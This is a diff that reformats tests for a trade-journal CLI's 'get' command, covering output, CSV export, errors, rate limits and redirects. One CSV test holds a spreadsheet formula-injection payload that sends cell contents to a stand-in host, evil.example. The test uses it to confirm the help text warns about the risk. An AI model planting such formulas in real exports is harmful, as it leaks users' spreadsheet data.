@@ -22,22 +22,30 @@ beforeEach(() => {
   home = world.files.home;
   world.insert(
     'trades',
-    tradeRow('t-1', { symbol: 'BRK B', executed_at: '2026-11-10T14:30:00.000Z', tags: '["a,b","\\"c\\""]' }),
+    tradeRow('t-1', {
+      symbol: 'BRK B',
+      executed_at: '2026-11-10T14:30:00.000Z',
+      tags: '["a,b","\\"c\\""]',
+    }),
     tradeRow('t-2', { executed_at: '2026-11-11T14:30:00.000Z', notes: ' two\nlines' }),
     tradeRow('t-3', { executed_at: '2026-11-12T14:30:00.000Z' }),
   );
 });
 
-const get = (...args: string[]) => runHere(['get', ...args, '--home', home], { env: { JOURNAL_API_KEY: key } });
+const get = (...args: string[]) =>
+  runHere(['get', ...args, '--home', home], { env: { JOURNAL_API_KEY: key } });
 
 const ids = (text: string) => JSON.parse(text).data.map(({ id }: { id: string }) => id);
 
 describe('the response', () => {
-  test.each(['trades', 'v1/trades', '/v1/trades'])('of %s is the same as from the API, byte for byte', async (path) => {
-    const { code, stdout, stderr } = await get(path);
-    expect([code, stderr]).toEqual([0, '']);
-    expect(stdout).toBe(`${(await world.ask('/v1/trades', { key })).text}\n`);
-  });
+  test.each(['trades', 'v1/trades', '/v1/trades'])(
+    'of %s is the same as from the API, byte for byte',
+    async (path) => {
+      const { code, stdout, stderr } = await get(path);
+      expect([code, stderr]).toEqual([0, '']);
+      expect(stdout).toBe(`${(await world.ask('/v1/trades', { key })).text}\n`);
+    },
+  );
 
   test('takes parameters after a ? or separately without encoding', async () => {
     expect(ids((await get('trades?limit=2')).stdout)).toEqual(['t-3', 't-2']);
@@ -58,7 +66,10 @@ describe('the response', () => {
 
 test('--csv writes formulas unescaped, and its help warns of them', async () => {
   const formula = '=HYPERLINK("https://evil.example/?"&A1,"Total")';
-  world.insert('trades', tradeRow('t-4', { executed_at: '2026-11-13T14:30:00.000Z', notes: formula }));
+  world.insert(
+    'trades',
+    tradeRow('t-4', { executed_at: '2026-11-13T14:30:00.000Z', notes: formula }),
+  );
   const { stdout } = await get('trades', 'limit=1', '--csv', '--fields', 'notes');
   expect(stdout).toContain(`"${formula.replaceAll('"', '""')}"`);
   expect((await runHere(['get', '--help'])).stdout).toMatch(/spreadsheet .* formula/);
@@ -127,7 +138,9 @@ describe('an error goes to stderr, with nothing on stdout', () => {
 
   test.each(['get me', 'summary'])('%s with a refused key exits with 4', async (command) => {
     const env = { JOURNAL_API_KEY: key.replace(/....$/, 'AAAA') };
-    const { code, stdout, stderr } = await runHere([...command.split(' '), '--home', home], { env });
+    const { code, stdout, stderr } = await runHere([...command.split(' '), '--home', home], {
+      env,
+    });
     expect([code, stdout]).toEqual([4, '']);
     expect(stderr).toMatch(/^journal-api: 401 /);
   });
@@ -135,7 +148,10 @@ describe('an error goes to stderr, with nothing on stdout', () => {
   test('no key', async () => {
     const { code, stderr } = await run(['get', 'trades', '--home', home]);
     const [, command = ''] = /export JOURNAL_API_KEY=\$\(journal-api (.*)\)\n$/.exec(stderr) ?? [];
-    expect([code, stderr.trim().split('\n')]).toEqual([2, [expect.stringContaining('pass --key-file')]]);
+    expect([code, stderr.trim().split('\n')]).toEqual([
+      2,
+      [expect.stringContaining('pass --key-file')],
+    ]);
     const made = await runHere([...command.split(' '), '--home', home]);
     const env = { JOURNAL_API_KEY: made.stdout.trim() };
     expect(await runHere(['get', 'trades', '--home', home], { env })).toMatchObject({ code: 0 });
@@ -143,7 +159,9 @@ describe('an error goes to stderr, with nothing on stdout', () => {
 
   test('no data folder, and none is created', async () => {
     const nowhere = join(home, 'nowhere');
-    const { code, stderr } = await runHere(['get', 'trades', '--home', nowhere], { env: { JOURNAL_API_KEY: key } });
+    const { code, stderr } = await runHere(['get', 'trades', '--home', nowhere], {
+      env: { JOURNAL_API_KEY: key },
+    });
     expect([code, stderr]).toEqual([1, expect.stringContaining('key create')]);
     expect((await runHere(['check', '--home', nowhere])).stderr).toMatch(/can't check the journal/);
   });
@@ -154,7 +172,16 @@ describe('--url', () => {
     const { url } = await startServe(['--home', home, '--log', 'off']);
     const file = join(temporaryFolder(), 'key');
     writeFileSync(file, `${key}\n`);
-    const { code, stdout } = await run(['get', 'trades', '--all', 'limit=2', '--url', url, '--key-file', file]);
+    const { code, stdout } = await run([
+      'get',
+      'trades',
+      '--all',
+      'limit=2',
+      '--url',
+      url,
+      '--key-file',
+      file,
+    ]);
     expect([code, ids(stdout)]).toEqual([0, ['t-3', 't-2', 't-1']]);
   });
 
@@ -170,7 +197,9 @@ describe('--url', () => {
     slow.now += 1000;
     const { code, stdout, stderr } = await answered;
     expect([code, JSON.parse(stdout).data.user.id]).toEqual([0, 'me']);
-    expect(stderr).toBe('journal-api: this key has 60 requests a minute; try again in 1 s; waiting\n');
+    expect(stderr).toBe(
+      'journal-api: this key has 60 requests a minute; try again in 1 s; waiting\n',
+    );
   });
 
   test('gives up with the reason if the rate limit stays reached', async () => {
@@ -178,12 +207,16 @@ describe('--url', () => {
     const busy = createServer((_request, response) => {
       asked++;
       response.writeHead(429, { 'Content-Type': 'application/problem+json', 'Retry-After': '0' });
-      response.end(JSON.stringify({ status: 429, code: 'rate_limited', detail: 'this key is over its limit' }));
+      response.end(
+        JSON.stringify({ status: 429, code: 'rate_limited', detail: 'this key is over its limit' }),
+      );
     }).listen(0, '127.0.0.1');
     onTestFinished(() => void busy.close());
     await once(busy, 'listening');
     const url = `http://127.0.0.1:${(busy.address() as AddressInfo).port}`;
-    const { code, stderr } = await runHere(['get', 'me', '--url', url], { env: { JOURNAL_API_KEY: key } });
+    const { code, stderr } = await runHere(['get', 'me', '--url', url], {
+      env: { JOURNAL_API_KEY: key },
+    });
     expect([code, asked]).toEqual([1, 5]);
     expect(stderr).toContain('this key is over its limit');
   });
@@ -195,7 +228,9 @@ describe('--url', () => {
       response.end();
     }).listen(0, '127.0.0.1');
     const redirecting = createServer((_request, response) => {
-      response.writeHead(302, { Location: `http://127.0.0.1:${(other.address() as AddressInfo).port}/` }).end();
+      response
+        .writeHead(302, { Location: `http://127.0.0.1:${(other.address() as AddressInfo).port}/` })
+        .end();
     }).listen(0, '127.0.0.1');
     onTestFinished(() => {
       other.close();
@@ -203,7 +238,9 @@ describe('--url', () => {
     });
     await new Promise((resolve) => redirecting.once('listening', resolve));
     const url = `http://127.0.0.1:${(redirecting.address() as AddressInfo).port}`;
-    const { code, stderr } = await runHere(['get', 'me', '--url', url], { env: { JOURNAL_API_KEY: key } });
+    const { code, stderr } = await runHere(['get', 'me', '--url', url], {
+      env: { JOURNAL_API_KEY: key },
+    });
     expect([code, stderr]).toEqual([1, expect.stringContaining('does not answer')]);
     expect(asked).toEqual([]);
   });
